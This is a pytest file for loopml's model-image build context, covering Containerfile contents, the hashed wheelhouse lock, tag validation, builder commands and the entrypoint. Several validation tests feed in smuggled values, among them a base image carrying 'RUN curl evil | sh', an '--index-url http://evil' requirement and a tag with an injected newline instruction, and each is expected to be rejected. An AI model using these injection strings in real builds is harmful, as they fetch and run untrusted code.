"""The build context of a model image (``loopml.serving.image``), fast: the files it writes, the
Containerfile, the wheelhouse and its lock, tags, the builders' commands, the entrypoint, and
``loopml build-image --no-build``. pip is stubbed (it writes empty wheels named after each
requirement) except where loopml's own wheel is built; the slow test builds and runs a real
image (test_image_build.py)."""

from __future__ import annotations

import hashlib
import json
import re
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from typer.testing import CliRunner

import loopml
from loopml.cli.app import app
from loopml.errors import (
    InvalidArgument,
    LoopError,
    MissingExtra,
    ModelCorrupted,
    ModelNotFound,
    UntrustedModel,
)
from loopml.models.manifest import read_manifest
from loopml.models.package import log_model, save_model
from loopml.serving import _builders, _wheelhouse, image
from loopml.serving.image import (
    BuildContext,
    build_command,
    build_image,
    check_tag,
    find_tool,
    serve_command,
    write_build_context,
)

FEATURES = ["a", "b"]
PINNED = {"numpy", "scikit-learn", "scipy", "skops"}  # what the sklearn flavor pins


@dataclass
class Store:
    """A store with model ``churn`` (v1 and v2, alias ``champion`` on v1) and a model folder."""

    client: loopml.Client
    db: Path
    folder: Path


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    from sklearn.linear_model import LogisticRegression

    root = tmp_path_factory.mktemp("image-store")
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"a": rng.normal(size=100), "b": rng.normal(size=100)})
    model = LogisticRegression().fit(frame, (frame.a + frame.b > 0).astype(int))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("LOOPML_CAPTURE_PACKAGES", "false")
        mp.setenv("LOOPML_PROJECT", "default")
        mp.delenv("LOOPML_TRACKING_URI", raising=False)
        client = loopml.Client(f"sqlite:///{root / 'loopml.db'}")
        for _ in range(2):
            log_model(
                model, input_example=frame.head(3), registered_model_name="churn", client=client
            )
        client.set_model_alias("churn", "champion", 1)
        folder = root / "churn model"  # a space: the endpoint name is made safe
        save_model(model, folder, input_example=frame.head(3))
        yield Store(client, root / "loopml.db", folder)
        client.close()


class FakePip:
    """Stands in for pip: ``pip wheel`` writes an empty wheel per requirement line (and copies
    loopml's wheel); every command is recorded."""

    def __init__(self) -> None:
        self.commands: list[list[str]] = []
        self.fail = False

    def __call__(self, cmd: Sequence[str], what: str, **_: Any) -> None:
        assert isinstance(cmd, list) and all(isinstance(c, str) for c in cmd)
        self.commands.append(cmd)
        if self.fail:
            raise LoopError(f"{what} failed (exit 1)")
        assert cmd[:4] == [sys.executable, "-m", "pip", "wheel"]
        out = Path(cmd[cmd.index("--wheel-dir") + 1])
        if "--no-deps" in cmd:
            (out / "loopml-0.1.0-py3-none-any.whl").write_bytes(b"loopml")
            return
        for line in Path(cmd[cmd.index("-r") + 1]).read_text().splitlines():
            if line and not line.startswith("#"):
                name, _, version = line.partition("==")
                (out / f"{name.replace('-', '_')}-{version}-py3-none-any.whl").write_bytes(b"w")
        own = Path(cmd[-1])
        if own.name.endswith(".whl"):
            (out / own.name).write_bytes(own.read_bytes())


@pytest.fixture
def pip(monkeypatch: pytest.MonkeyPatch) -> FakePip:
    fake = FakePip()
    monkeypatch.setattr(_wheelhouse, "run_command", fake)
    return fake


def _context(store: Store, dest: Path, **kwargs: Any) -> BuildContext:
    kwargs.setdefault("base_image", "localhost/python-base:bookworm")
    return write_build_context("models:/churn@champion", dest, client=store.client, **kwargs)


def test_the_context_holds_the_containerfile_the_verified_model_and_the_wheelhouse(
    store: Store, pip: FakePip, tmp_path: Path
) -> None:
    context = _context(store, tmp_path / "ctx")
    root = tmp_path / "ctx"
    assert context.path == root.resolve()
    assert sorted(p.name for p in root.iterdir()) == [
        "Containerfile",
        "constraints.txt",
        "model",
        "requirements.txt",
        "wheels",
    ]
    # The alias is resolved once: the image holds version 1, verified against the registry.
    assert (context.model_uri, context.endpoint, context.model_version) == (
        "models:/churn/1",
        "churn",
        1,
    )
    version = store.client.get_model_version("churn", 1)
    assert read_manifest(root / "model", expected_digest=version.manifest_digest)[1] == (
        context.manifest_digest
    )
    assert all(p.stat().st_mode & 0o044 == 0o044 for p in (root / "model").iterdir())
    # requirements.txt: the model's pins (not python, not loopml), at their saved versions.
    pins = read_manifest(root / "model")[0].requirements
    assert {r.partition("==")[0] for r in context.requirements} == PINNED
    assert all(f"{n}=={pins[n]}" in context.requirements for n in PINNED)
    # constraints.txt: the host's versions of everything else, never the model's pins.
    constraints = (root / "constraints.txt").read_text().splitlines()[1:]
    names = {c.partition("==")[0] for c in constraints}
    assert f"pandas=={pd.__version__}" in constraints
    assert not names & (PINNED | {"loopml"})
    # The wheelhouse: loopml's wheel and one wheel per requirement, each in the lock.
    wheels = sorted(p.name for p in (root / "wheels").iterdir())
    assert "loopml-0.1.0-py3-none-any.whl" in wheels
    assert any(w.startswith("scikit_learn-") for w in wheels)
    lock = (root / "wheels" / "requirements.lock").read_text().splitlines()
    assert [line for line in lock if not line.startswith("#")] == list(context.lock)
    assert len(context.lock) == len(wheels) - 1
    assert all(
        re.fullmatch(r"[a-z0-9-]+==\S+ --hash=sha256:[0-9a-f]{64}", x) for x in context.lock
    )
    # pip was asked for exactly that: list-form commands, host constraints, loopml's wheel.
    build, fill = pip.commands
    assert "--no-deps" in build
    assert fill[fill.index("-r") + 1] == str(root / "requirements.txt")
    assert fill[fill.index("-c") + 1] == str(root / "constraints.txt")
    assert fill[-1].endswith("loopml-0.1.0-py3-none-any.whl")


def test_the_containerfile_installs_offline_as_a_non_root_user(
    store: Store, pip: FakePip, tmp_path: Path
) -> None:
    text = _context(store, tmp_path / "ctx").containerfile.read_text()
    assert "FROM localhost/python-base:bookworm\n" in text
    assert "RUN --mount=type=bind,source=wheels,target=/wheels" in text
    assert "pip install --no-index --find-links /wheels" in text
    assert "--require-hashes -r /wheels/requirements.lock" in text
    assert f"v == '{sys.version_info[0]}.{sys.version_info[1]}'" in text  # the Python check
    assert "COPY model/ /models/churn/\n" in text
    assert "\nUSER 10001:10001\n" in text
    assert "\nEXPOSE 8080\n" in text
    health = re.search(r"HEALTHCHECK .*\n\s+CMD (.*)\n", text)
    assert health is not None
    check = json.loads(health.group(1))
    assert check[:2] == ["/opt/loopml/bin/python", "-c"] and "/ping" in check[2]
    assert "curl" not in text
    entry = re.search(r"\nENTRYPOINT (.*)\n", text)
    assert entry is not None
    assert json.loads(entry.group(1)) == [
        "/opt/loopml/bin/python",
        "-m",
        "loopml.serving.image",
        "/models/churn",
        "--name",
        "churn",
    ]
    assert 'io.loopml.model.uri="models:/churn/1"' in text
    # The wheelhouse's digest comes before the install step and the model's labels after it,
    # so a layer cache rebuilds the install only when the wheels change.
    lock = (tmp_path / "ctx" / "wheels" / "requirements.lock").read_bytes()
    assert f'LABEL io.loopml.wheelhouse="sha256:{hashlib.sha256(lock).hexdigest()}"' in text
    assert (
        text.index("io.loopml.wheelhouse")
        < text.index("\nRUN --mount")
        < text.index("\nCOPY model/")
        < text.index("io.loopml.model.uri")
    )
    assert "--trusted" not in text


def test_a_model_folder_gets_a_safe_endpoint_name(
    store: Store, pip: FakePip, tmp_path: Path
) -> None:
    context = write_build_context(store.folder, tmp_path / "ctx", base_image="python:3.11-slim")
    assert (context.endpoint, context.model_version) == ("churn_model", None)
    assert "COPY model/ /models/churn_model/\n" in context.containerfile.read_text()


def test_a_pickled_model_needs_trusted(store: Store, pip: FakePip, tmp_path: Path) -> None:
    class Doubler:
        def predict(self, x: Any) -> Any:
            return np.asarray(x)[:, 0] * 2

    folder = tmp_path / "pickled"
    save_model(Doubler(), folder, flavor="pickle")
    with pytest.raises(UntrustedModel, match="--trusted"):
        write_build_context(folder, tmp_path / "ctx")
    assert not (tmp_path / "ctx").exists()  # nothing half-written is left
    context = write_build_context(folder, tmp_path / "ctx", trusted=True)
    assert '"--name", "pickled", "--trusted"]' in context.containerfile.read_text()


def test_a_tampered_model_is_refused(store: Store, pip: FakePip, tmp_path: Path) -> None:
    import shutil

    folder = tmp_path / "tampered"
    shutil.copytree(store.folder, folder)
    (folder / "input_example.json").write_text("[]")
    with pytest.raises(ModelCorrupted):
        write_build_context(folder, tmp_path / "ctx")
    with pytest.raises(ModelNotFound):
        write_build_context("models:/churn@nobody", tmp_path / "ctx2", client=store.client)


def test_the_context_folder_must_be_empty_and_a_failure_leaves_nothing(
    store: Store, pip: FakePip, tmp_path: Path
) -> None:
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "keep.txt").write_text("mine")
    with pytest.raises(InvalidArgument, match="not empty"):
        _context(store, busy)
    assert (busy / "keep.txt").read_text() == "mine"
    pip.fail = True
    with pytest.raises(LoopError, match="failed"):
        _context(store, tmp_path / "new")
    assert not (tmp_path / "new").exists()
    empty = tmp_path / "empty"
    empty.mkdir()
    with pytest.raises(LoopError):
        _context(store, empty)
    assert empty.is_dir() and not any(empty.iterdir())


@pytest.mark.parametrize(
    "extra", ["-e git+https://example.com/x", "--index-url http://evil", "a b", "x==1\ny"]
)
def test_extra_requirements_are_plain_specifiers(
    store: Store, pip: FakePip, tmp_path: Path, extra: str
) -> None:
    with pytest.raises(InvalidArgument, match="requirement"):
        _context(store, tmp_path / "ctx", extra_requirements=[extra])
    assert not pip.commands


def test_extra_requirements_and_no_host_pins(store: Store, pip: FakePip, tmp_path: Path) -> None:
    context = _context(
        store, tmp_path / "ctx", extra_requirements=["holidays==0.40"], pin_host=False
    )
    assert context.requirements[-1] == "holidays==0.40"
    assert (tmp_path / "ctx" / "constraints.txt").read_text().count("==") == 0
    assert any(x.startswith("holidays==0.40 ") for x in context.lock)


def test_loopml_s_own_wheel_is_built_from_its_source(tmp_path: Path) -> None:
    wheel = _wheelhouse.loopml_wheel(tmp_path, None)  # really runs pip wheel --no-deps
    assert wheel is not None and wheel.parent == tmp_path
    assert re.fullmatch(r"loopml-[0-9][^-]*-py3-none-any\.whl", wheel.name)
    (tmp_path / "copy").mkdir()
    again = _wheelhouse.loopml_wheel(tmp_path / "copy", wheel)  # a given wheel is copied
    assert again is not None and again.read_bytes() == wheel.read_bytes()
    with pytest.raises(InvalidArgument, match="neither a loopml wheel"):
        _wheelhouse.loopml_wheel(tmp_path, tmp_path / "nothing-here")


def test_the_lock_refuses_two_wheels_of_one_distribution(tmp_path: Path) -> None:
    for name in ("numpy-2.0.0-cp311-cp311-any.whl", "numpy-2.1.0-cp311-cp311-any.whl"):
        (tmp_path / name).write_bytes(b"x")
    with pytest.raises(LoopError, match="two wheels of numpy"):
        _wheelhouse.lock_lines(tmp_path)


@pytest.mark.parametrize(
    "tag",
    ["churn:3", "churn", "ml/churn:v3.1-rc_1", "localhost:5000/ml/churn:3", "reg.example.com/a"],
)
def test_valid_tags(tag: str) -> None:
    assert check_tag(tag) == tag


@pytest.mark.parametrize(
    "tag",
    ["", "Churn:3", "churn:3 ", "-t", "--rm", "churn:3\nRUN x", "churn::3", "churn:-x", "a" * 300],
)
def test_invalid_tags(tag: str) -> None:
    with pytest.raises(InvalidArgument, match="not a valid image tag"):
        check_tag(tag)


def test_a_base_image_may_carry_a_digest_but_no_instruction(
    store: Store, pip: FakePip, tmp_path: Path
) -> None:
    digest = "python@sha256:" + "a" * 64
    assert check_tag(digest, what="base image") == digest
    with pytest.raises(InvalidArgument, match="base image"):
        _context(store, tmp_path / "ctx", base_image="python:3.11\nRUN curl evil | sh")
    assert not pip.commands


def test_the_builders_commands() -> None:
    podman = build_command("podman", "/usr/bin/podman", "/ctx", "churn:3", storage_driver="vfs")
    assert podman == [
        "/usr/bin/podman", "--storage-driver", "vfs", "build", "--format", "docker",
        "--layers=false", "--network", "none", "-f", "/ctx/Containerfile", "-t", "churn:3",
        "/ctx",
    ]  # fmt: skip
    buildah = build_command("buildah", "buildah", "/ctx", "churn:3", iidfile="/tmp/id")
    assert buildah[:4] == ["buildah", "bud", "--format", "docker"]
    assert buildah[-3:] == ["--iidfile", "/tmp/id", "/ctx"]
    docker = build_command("docker", "docker", "/ctx", "churn:3", storage_driver="vfs")
    assert docker == [
        "docker", "build", "--network", "none", "-f", "/ctx/Containerfile", "-t", "churn:3",
        "/ctx",
    ]  # fmt: skip
    with pytest.raises(InvalidArgument):
        build_command("podman", "podman", "/ctx", "-v")


def test_a_missing_builder_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    installed: set[str] = set()
    monkeypatch.setattr(
        _builders.shutil, "which", lambda name: f"/usr/bin/{name}" if name in installed else None
    )
    monkeypatch.setattr(_builders, "_docker_answers", lambda docker: False)
    with pytest.raises(MissingExtra, match=r"no container builder found.*apt-get install"):
        find_tool()
    with pytest.raises(MissingExtra, match="buildah is not installed"):
        find_tool("buildah")
    installed.add("docker")
    with pytest.raises(MissingExtra, match="docker's daemon does not answer"):
        find_tool()
    monkeypatch.setattr(_builders, "_docker_answers", lambda docker: True)
    assert find_tool() == ("docker", "/usr/bin/docker")
    installed.add("buildah")
    assert find_tool() == ("buildah", "/usr/bin/buildah")
    installed.add("podman")
    assert find_tool() == ("podman", "/usr/bin/podman")
    assert find_tool("docker") == ("docker", "/usr/bin/docker")
    with pytest.raises(InvalidArgument, match="auto, podman, buildah or docker"):
        find_tool("kaniko")
    (tmp_path / "Containerfile").write_text("FROM scratch\n")
    installed.clear()
    with pytest.raises(MissingExtra, match="no container builder found"):
        build_image(tmp_path, "churn:3")
    with pytest.raises(InvalidArgument, match="holds no Containerfile"):
        build_image(tmp_path / "nothing", "churn:3")


def test_the_entrypoint_serves_the_folder_and_logs_only_with_a_store() -> None:
    cmd = serve_command({}, ["/models/churn", "--name", "churn", "--workers", "2"])
    assert cmd == [
        sys.executable, "-m", "loopml.cli", "serve", "/models/churn", "--host", "0.0.0.0",
        "--port", "8080", "--no-prediction-log", "--name", "churn", "--workers", "2",
    ]  # fmt: skip
    logged = serve_command(
        {"PORT": "9000", "LOOPML_TRACKING_URI": "postgresql://db/loopml"}, ["/models/churn"]
    )
    assert logged[-2:] == ["--port", "9000"] and "--no-prediction-log" not in logged
    with pytest.raises(InvalidArgument, match="usage"):
        serve_command({}, [])


def test_the_image_module_runs_as_the_entrypoint(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[tuple[str, list[str]]] = []
    monkeypatch.setattr(image.os, "execv", lambda path, args: calls.append((path, args)))
    monkeypatch.setattr(image.sys, "argv", ["image.py", "/models/churn", "--name", "churn"])
    monkeypatch.delenv("LOOPML_TRACKING_URI", raising=False)
    monkeypatch.delenv("PORT", raising=False)
    image.main()
    assert calls == [(sys.executable, serve_command({}, ["/models/churn", "--name", "churn"]))]


def _cli(store: Store, *args: str) -> Any:
    return CliRunner().invoke(app, ["--store", str(store.db), "build-image", *args])


def test_cli_no_build_writes_the_context_and_prints_the_command(
    store: Store, pip: FakePip, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setattr(_builders.shutil, "which", lambda name: None)  # no builder needed
    result = _cli(
        store, "models:/churn@champion", "-t", "churn:1", "--no-build",
        "--base-image", "localhost/python-base:bookworm", "--storage-driver", "vfs",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert (tmp_path / "churn-image" / "Containerfile").is_file()
    assert "wrote the build context of models:/churn/1" in result.output
    assert (
        "podman --storage-driver vfs build --format docker --layers=false --network none -f "
        f"{tmp_path / 'churn-image' / 'Containerfile'} -t churn:1 {tmp_path / 'churn-image'}"
    ) in result.output


def test_cli_errors_are_one_line(
    store: Store, pip: FakePip, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(_builders.shutil, "which", lambda name: None)
    bad = _cli(store, "models:/churn@champion", "-t", "Churn:1")
    assert bad.exit_code == 1 and "not a valid image tag" in bad.output
    missing = _cli(store, "models:/churn@champion", "-t", "churn:1")
    assert missing.exit_code == 1 and "no container builder found" in missing.output
    assert not pip.commands  # both fail before any work
    unknown = _cli(store, "models:/nope@champion", "-t", "churn:1", "--no-build")
    assert unknown.exit_code == 1 and "nope" in unknown.output
